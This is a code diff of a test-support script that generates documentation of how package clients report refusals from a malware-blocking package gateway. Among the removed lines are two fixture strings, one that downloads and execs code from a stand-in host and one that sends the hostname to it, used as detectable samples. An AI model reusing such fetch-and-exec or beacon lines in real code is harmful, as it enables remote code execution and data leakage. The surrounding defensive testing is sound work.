@@ -5,33 +5,28 @@ python -m tests.support.matrix    # writes docs/clients.md from real clients
 
 from __future__ import annotations
 
+import asyncio
+import contextlib
 import tempfile
+import threading
 from collections.abc import Iterator
 from contextlib import contextmanager
 from dataclasses import dataclass
-from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
-from tests.support.distributions import make_wheel
-from tests.support.installers import CLIENTS, Asked, ask
+from aiohttp.test_utils import TestServer
+
+from pratique.gateway.parts import Rules
+from pratique.gateway.patience import Patience
+from tests.gateway.world import world
+from tests.support.installers import RESOLVERS, Asked, ask
+from tests.support.locks import LOCKED, sync
+from tests.support.refusals import CASES, POLICY, Case, listed
 from tests.support.server import Server, serving
-from tests.support.upstream_server import Listed, LocalIndex
+from tests.support.upstream_server import LocalIndex
 
 PAGE = Path(__file__).parents[2] / "docs" / "clients.md"
-_STAGE = 'import urllib.request\nexec(urllib.request.urlopen("http://c.example.invalid/a").read())\n'
-_BEACON = (
-    'import socket, urllib.request\nurllib.request.urlopen("http://c.example.invalid/?h=" + socket.gethostname())\n'
-)
-_POLICY = """\
-[age]
-minimum = "3d"
-[private]
-names = ["billing-demo"]
-reason = "ours; see the handbook"
-[[deny]]
-project = "denied-demo"
-reason = "use the other one"
-"""
+CLIENTS = (*RESOLVERS, *LOCKED)
 _HEAD = """\
 # What each client says
 
@@ -39,95 +34,53 @@ _HEAD = """\
 
 Each client was asked for one requirement through the gateway, and this is the line in which a person reads why it was
 refused. `pip`, `pip download`, `uv`, `uv lock`, `Poetry` (`poetry lock`), `PDM` (`pdm lock`) and `pip-tools`
-(`pip-compile`) are those that [`requirements/`](../requirements) locks; `pip 23.2` is one of 2023.
+(`pip-compile`) are those that [`requirements/`](../requirements) locks; `pip 23.2` is one of 2023. `uv sync --frozen`
+and `Poetry install` install what a lock file of an earlier day holds.
+
+The line begins with what was decided: `blocked`, or `quarantined`, which a person or time may change. Then come the
+rule, the place and what was found there, and after that what can be done, with the address of the report.
 """
 
 
 @dataclass(frozen=True, slots=True, kw_only=True)
-class Case:
-    """A refusal. ``text`` is what a person must read, whichever client they use."""
+class Shop:
+    """A gateway before an index in which each case lives, and one whose inspections never end."""
 
-    title: str
-    requirement: str
-    text: str
-    about: str
-    clients: tuple[str, ...] = CLIENTS
-
-
-CASES = (
-    Case(
-        title="Every release is malicious",
-        requirement="evil-demo",
-        text="blocked: second-stage in evil_demo/__init__.py:2",
-        about="The page lists its files as they are, so that every client asks for one and is told.",
-    ),
-    Case(
-        title="The pinned release is malicious",
-        requirement="half-demo==2.0",
-        text="blocked: second-stage in half_demo/__init__.py:2",
-        about="Whoever pins it, in a requirement or a lock file, is told; whoever does not is given the older one.",
-    ),
-    Case(
-        title="Held for a person",
-        requirement="held-demo==1.0",
-        text="quarantined: beacon in held_demo/__init__.py:2",
-        about="A reviewer may release it; the next request is then served.",
-    ),
-    Case(
-        title="Refused by the policy",
-        requirement="denied-demo==1.0",
-        text="use the other one",
-        about="The policy's own words.",
-        clients=("pip", "pip 23.2", "uv", "Poetry", "PDM"),
-    ),
-    Case(
-        title="Too young",
-        requirement="young-demo==1.0",
-        text="young-demo 1.0",
-        about="By the upstream's time of upload.",
-        clients=("pip", "pip 23.2", "uv", "Poetry", "PDM"),
-    ),
-    Case(
-        title="A private name that is not published here yet",
-        requirement="billing-demo",
-        text="publish it here first",
-        about="The upstream is never asked. Installers are given a page with one entry, whose refusal says why.",
-        clients=("pip", "pip 23.2", "uv", "Poetry", "PDM"),
-    ),
-)
+    server: Server
+    busy: str
+    """The address of that one's index."""
 
 
 @contextmanager
-def shop(folder: Path) -> Iterator[Server]:
-    """A gateway before an index in which each case lives."""
+def shop(folder: Path) -> Iterator[Shop]:
+    """Both gateways; whatever has to be inspected to be refused is."""
     behind, policy = LocalIndex(), folder / "policy.toml"
-    policy.write_text(_POLICY, encoding="utf-8")
-    for name, version, source in (
-        ("evil-demo", "1.0", _STAGE),
-        ("half-demo", "1.0", "x = 1\n"),
-        ("half-demo", "2.0", _STAGE),
-        ("held-demo", "1.0", _BEACON),
-        ("denied-demo", "1.0", "x = 1\n"),
-        ("billing-demo", "1.0", "x = 1\n"),
-    ):
-        behind.add(make_wheel(name, version, {f"{name.replace('-', '_')}/__init__.py": source}))
-    young = f"{datetime.now(UTC) - timedelta(hours=30):%Y-%m-%dT%H:%M:%S.000000Z}"
-    behind.put(Listed(built=make_wheel("young-demo", "1.0", {"young_demo.py": "x = 1\n"}), upload_time=young))
+    policy.write_text(POLICY, encoding="utf-8")
+    for one in listed():
+        behind.put(one)
     with (
         behind.serving_in_thread() as url,
         serving(folder / "data", url, "--policy", str(policy)) as server,
+        _busy(folder / "busy") as busy,
     ):
-        for requirement in ("evil-demo", "half-demo==1.0", "half-demo==2.0", "held-demo"):
-            ask(
-                "pip download", requirement, server.index, folder / requirement
-            )  # who only reads metadata judges nothing
-        yield server
+        for requirement in ("evil-demo", "half-demo==1.0", "half-demo==2.0", "held-demo", "reqeusts"):
+            ask("pip download", requirement, server.index, folder / requirement)  # metadata alone are judged by nobody
+        behind.statuses["gone-demo"] = ("quarantined", "reported as malware")
+        yield Shop(server=server, busy=busy)
 
 
-def asked(case: Case, client: str, server: Server, folder: Path) -> Asked:
+def asked(case: Case, client: str, shop: Shop, folder: Path) -> Asked:
     """Ask in a folder of its own."""
-    safe = client.replace(" ", "-")
-    return ask(client, case.requirement, server.index, folder / f"{safe}-{case.requirement.partition('=')[0]}")
+    place = folder / f"{client.replace(' ', '-')}-{case.requirement.partition('=')[0]}"
+    index = shop.busy if case.pending else shop.server.index
+    if client in LOCKED:
+        return sync(client, case.built, index, place)
+    return ask(client, case.requirement, index, place)
+
+
+def told(case: Case) -> tuple[str, ...]:
+    """The clients whose users read why."""
+    return tuple(client for client in CLIENTS if client != case.silent)
 
 
 def row(client: str, line: str) -> str:
@@ -136,14 +89,40 @@ def row(client: str, line: str) -> str:
     return f"| {client} | `{said}` |"
 
 
+@contextmanager
+def _busy(folder: Path) -> Iterator[str]:
+    """A gateway that waits for no inspection, and whose upstream gives no file; gives its index's address."""
+    folder.mkdir()
+    started: list[tuple[str, asyncio.AbstractEventLoop, asyncio.Event]] = []
+    ready = threading.Event()
+
+    async def serve() -> None:
+        rules = Rules(patience=Patience(hold=0.0, hold_uv=0.0, total=0.0))
+        async with (
+            world(folder, {one.built.filename: one.built.data for one in CASES if one.pending}, rules) as made,
+            TestServer(made.site()) as server,
+        ):
+            made.upstream.hold, stop = asyncio.Event(), asyncio.Event()
+            started.append((str(server.make_url("/simple/")), asyncio.get_running_loop(), stop))
+            ready.set()
+            await stop.wait()
+
+    thread = threading.Thread(target=lambda: asyncio.run(serve()), name="busy-gateway")
+    thread.start()
+    ready.wait()
+    url, loop, stop = started[0]
+    with contextlib.ExitStack() as ending:
+        ending.callback(thread.join)
+        ending.callback(loop.call_soon_threadsafe, stop.set)
+        yield url
+
+
 def main() -> None:
     """Write the page."""
     parts = [_HEAD]
-    with tempfile.TemporaryDirectory() as name, shop(Path(name)) as server:
+    with tempfile.TemporaryDirectory() as name, shop(Path(name)) as made:
         for case in CASES:
-            rows = [
-                row(client, asked(case, client, server, Path(name)).line_with(case.text)) for client in case.clients
-            ]
+            rows = [row(one, asked(case, one, made, Path(name)).line_with(case.text)) for one in told(case)]
             table = "\n".join(["| client | says |", "| --- | --- |", *rows])
             parts.append(f"## {case.title}\n\n{case.about}\n\n{table}\n")
     PAGE.write_text("\n".join(parts), encoding="utf-8")
